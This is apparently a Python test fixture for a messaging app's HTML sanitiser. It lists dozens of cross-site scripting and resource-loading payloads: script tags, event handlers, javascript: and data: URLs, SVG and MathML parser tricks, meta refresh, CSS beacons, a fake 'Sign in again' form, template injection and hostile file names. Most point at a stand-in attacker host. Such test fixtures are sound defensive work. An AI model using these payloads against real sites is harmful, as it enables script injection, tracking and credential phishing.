"""Attacks in messages: HTML, SVG, CSS and names that could run scripts, load resources or lead to other sites.

`HOST` stands for the attacker's server, which the test runs. `RAN` is code that shows that a script ran.
"""

from __future__ import annotations

HOST, RAN = "@HOST@", "window.top.ran=1"

_MARKUP = (
    f"<script>{RAN}</script>",
    "<script src=//@HOST@/a.js></script>",
    f"<ScRiPt >{RAN}</sCrIpT>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x onerror=\"{RAN}\"//",
    "<img src=http://@HOST@/pixel.png>",
    "<img srcset='http://@HOST@/set.png 1x'>",
    "<picture><source srcset=http://@HOST@/source.png><img></picture>",
    "<image src=http://@HOST@/image.png>",
    "<input type=image src=http://@HOST@/input.png>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<body onload={RAN}>",
    "<body background=http://@HOST@/back.png>",
    "<table background=http://@HOST@/table.png><tr><td background=http://@HOST@/cell.png>x</table>",
    f"<video onloadstart={RAN} src=http://@HOST@/v.mp4 poster=http://@HOST@/poster.png></video>",
    f"<audio onerror={RAN} src=http://@HOST@/a.mp3></audio>",
    "<track src=http://@HOST@/t.vtt>",
    "<iframe src=http://@HOST@/frame></iframe>",
    f"<iframe srcdoc=\"<script>{RAN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RAN}\"></iframe>",
    "<frameset><frame src=http://@HOST@/frame2></frameset>",
    "<object data=http://@HOST@/object></object>",
    f"<object data=\"data:text/html,<script>{RAN}</script>\"></object>",
    "<embed src=http://@HOST@/embed>",
    "<applet code=x archive=http://@HOST@/applet></applet>",
    f"<svg onload={RAN}></svg>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x></svg>",
    "<svg><image href=http://@HOST@/svg.png /></svg>",
    "<svg><use href=http://@HOST@/use.svg#x /></svg>",
    f"<svg><foreignObject><img src=x onerror={RAN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RAN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RAN}&gt;\">",
    f"<math><a xlink:href=\"javascript:{RAN}\">x</a></math>",
    f"<a href=\"javascript:{RAN}\" id=bait>x</a>",
    f"<a href=\"jav&#x0A;ascript:{RAN}\">x</a>",
    f"<a href=\"data:text/html,<script>{RAN}</script>\">x</a>",
    "<a href=http://@HOST@/ping ping=http://@HOST@/pinged>x</a>",
    f"<form action=\"javascript:{RAN}\"><button>x</button></form>",
    "<form action=http://@HOST@/form><input name=p><button id=go>Sign in again</button></form>",
    f"<button form=f formaction=\"javascript:{RAN}\">x</button><form id=f></form>",
    "<form action=/sign-out method=post><button>Release</button></form>",
    "<meta http-equiv=refresh content='0;url=http://@HOST@/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<meta http-equiv=set-cookie content='chaperone=x'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=http://@HOST@/><img src=based.png>",
    "<base target=_top><a href=/>x</a>",
    "<link rel=stylesheet href=http://@HOST@/style.css>",
    "<link rel=prefetch href=http://@HOST@/prefetch><link rel=dns-prefetch href=//x.invalid>",
    "<link rel=icon href=http://@HOST@/icon.png>",
    "<style>@import url(http://@HOST@/import.css); body{background:url(http://@HOST@/css.png)}</style>",
    "<p style='background:url(http://@HOST@/style.png)'>x</p>",
    "<p style=\"position:fixed;inset:0;z-index:9;background:#fff\">Nothing is held.</p>",
    "<style>*{display:none!important}</style>",
    "<div style=\"width:expression(alert(1));behavior:url(http://@HOST@/x.htc)\">x</div>",
    "<style>@font-face{font-family:x;src:url(http://@HOST@/font)}p{font-family:x}</style><p>x",
    f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\">",
    f"<template><script>{RAN}</script></template>",
    f"<textarea></textarea><script>{RAN}</script>",
    f"<title></title><img src=x onerror={RAN}>",
    f"<xmp></xmp><img src=x onerror={RAN}>",
    f"<!--><img src=x onerror={RAN}>-->",
    f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
    f"<![CDATA[><img src=x onerror={RAN}>]]>",
    f"<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:{RAN}\"?><x>",
    f"<x onclick={RAN} onmouseover={RAN} tabindex=1 onfocus={RAN} autofocus>x</x>",
    f"<p contenteditable onblur={RAN} autofocus>x</p>",
    "<p id=reason>x</p><p id=queue>x</p><p id=message data-id=x>x</p>",
    f"</body></html><script>{RAN}</script>",
    f"</div></iframe><script>{RAN}</script>",
    f"<<img src=x onerror={RAN}//<",
    f"<img\x0csrc=x\x0conerror={RAN}>",
    f"<img/src=x/onerror={RAN}>",
    f"\x00<scr\x00ipt>{RAN}</scr\x00ipt>",
    f"<a title='><img src=x onerror={RAN}>'>x</a>",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{RAN}')()}}}}{{% raw %}}{{{{ 7*7 }}}}",
    "<div hx-get=http://@HOST@/hx hx-trigger=load>x</div>",
    "<div hx-get=/sign-out hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<div sse-connect=http://@HOST@/sse>x</div>",
)  # fmt: skip

_NAMES = (
    f"<script>{RAN}</script>", f"\"><img src=x onerror={RAN}>", f"' autofocus onfocus={RAN} x='",
    f"javascript:{RAN}", "{{ 7*7 }}", "\u202egnp.exe", "a" * 300, "</title><script>" + RAN + "</script>",
)  # fmt: skip


def markups(host: str) -> list[str]:
    """HTML that attacks, with the attacker's server in it."""
    return [each.replace(HOST, host) for each in _MARKUP]


def names() -> list[str]:
    """Subjects, names of files and of people that attack."""
    return list(_NAMES)


def drawing(host: str) -> bytes:
    """A picture that is a program."""
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'><script>{RAN}</script>"
        f"<image href='http://{host}/drawn.png'/></svg>"
    ).encode()
